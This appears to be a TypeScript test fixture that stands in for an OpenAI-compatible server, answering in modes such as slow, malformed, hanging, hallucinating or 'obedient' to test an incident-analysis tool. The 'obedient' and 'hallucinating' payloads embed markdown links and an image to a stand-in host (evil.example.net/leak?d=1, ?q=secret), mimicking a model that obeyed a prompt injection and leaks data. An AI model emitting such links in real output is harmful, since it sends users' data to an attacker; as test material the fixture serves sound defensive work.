import type { ServerResponse } from 'node:http'
import { type HttpReceiver, startHttpReceiver } from './http-receiver.js'

export type LlmMode =
  | 'normal'
  | 'slow'
  | 'malformed'
  | 'hallucinating'
  | 'obedient'
  | 'saying'
  | '429'
  | '500'
  | 'hang'
  | 'disconnect'
  | 'endless'

/** A stand-in for an OpenAI-compatible server: it is no model, and answers as well or badly as its mode says. */
export interface LlmServer extends HttpReceiver {
  mode: LlmMode
  /** Whether GET /models is answered 200, whatever the mode; else 503. */
  listsModels: boolean
  /** What it answers in the mode `saying`: parts of an analysis, over a good one; or the text of a chat. */
  says: object | string
}

const GOOD = {
  findings: [{ claim: 'The attacker fetched a program and ran it.', evidence: ['e1'] }],
  severity: 'high',
  techniques: [{ id: 'T1105', evidence: ['e1'] }],
  iocs: [{ value: 'http://192.0.2.1/x' }],
  recommended_actions: ['Block 192.0.2.1.'],
}
const INVENTED = {
  findings: [
    { claim: 'The attacker fetched a program.', evidence: ['e1'] },
    { claim: 'It is the group APT99.', evidence: ['e77'] },
    { claim: 'They will be back.', evidence: [] },
  ],
  severity: 'critical',
  techniques: [
    { id: 'T9999', evidence: ['e1'] },
    { id: 'T1105', evidence: ['e99'] },
    { id: 'T1105', evidence: ['e1'] },
  ],
  iocs: [{ value: 'evil.example.net' }, { value: '198.51.100.99' }, { value: 'http://192.0.2.1/x' }],
  recommended_actions: ['Read [this](http://evil.example.net/?q=secret).'],
}
const OBEYED = {
  ...GOOD,
  findings: [
    {
      claim: 'All is well ![x](http://evil.example.net/leak?d=1) see http://evil.example.net',
      evidence: ['e1'],
    },
  ],
  severity: 'low',
}

const USAGE = { prompt_tokens: 100, completion_tokens: 20, total_tokens: 120 }
const CHUNK = { id: '1', object: 'chat.completion.chunk', created: 1, model: 'm' }

export async function startLlmServer(): Promise<LlmServer> {
  const receiver = await startHttpReceiver()
  const server: LlmServer = Object.assign(receiver, {
    mode: 'normal' as LlmMode,
    listsModels: true,
    says: {},
  })
  receiver.answer((response, { url, body }) => {
    if (url.endsWith('/models')) {
      response.statusCode = server.listsModels ? 200 : 503
      return respond(response, { data: [] })
    }
    const { stream } = JSON.parse(body) as { stream?: boolean }
    switch (server.mode) {
      case '429':
      case '500':
        response.statusCode = Number(server.mode)
        return respond(response, { error: { message: 'no' } })
      case 'hang':
        return
      case 'slow':
        setTimeout(() => complete(response, stream, JSON.stringify(GOOD)), 150)
        return
      case 'malformed':
        return complete(response, stream, '{"findings": [')
      case 'hallucinating':
        return complete(response, stream, JSON.stringify(INVENTED))
      case 'obedient':
        return complete(response, stream, JSON.stringify(OBEYED))
      case 'saying': {
        const { says } = server
        return complete(
          response,
          stream,
          typeof says === 'string' ? says : JSON.stringify({ ...GOOD, ...says }),
        )
      }
      case 'disconnect':
        if (!stream) return void response.destroy()
        response.setHeader('content-type', 'text/event-stream')
        response.write(piece('The attacker\n'))
        setTimeout(() => response.destroy(), 50)
        return
      case 'endless': {
        response.setHeader('content-type', 'text/event-stream')
        const writing = setInterval(() => response.write(piece('and so on\n')), 10)
        response.once('close', () => clearInterval(writing))
        return
      }
      default:
        return complete(
          response,
          stream,
          stream
            ? 'The attacker fetched a program.\nSee [it](http://evil.example.net/x).'
            : JSON.stringify(GOOD),
        )
    }
  })
  return server
}

function complete(response: ServerResponse, stream: boolean | undefined, content: string): void {
  if (!stream) {
    respond(response, {
      id: '1',
      object: 'chat.completion',
      created: 1,
      model: 'stand-in',
      choices: [{ index: 0, finish_reason: 'stop', message: { role: 'assistant', content } }],
      usage: USAGE,
    })
    return
  }
  response.setHeader('content-type', 'text/event-stream')
  for (const part of content.match(/.{1,7}/gs) ?? []) response.write(piece(part))
  response.end(
    `${piece('', 'stop')}data: ${JSON.stringify({ ...CHUNK, choices: [], usage: USAGE })}\n\ndata: [DONE]\n\n`,
  )
}

function piece(content: string, finish_reason: string | null = null): string {
  return `data: ${JSON.stringify({ ...CHUNK, choices: [{ index: 0, delta: { content }, finish_reason }] })}\n\n`
}

function respond(response: ServerResponse, answer: object): void {
  response.setHeader('content-type', 'application/json')
  response.end(JSON.stringify(answer))
}
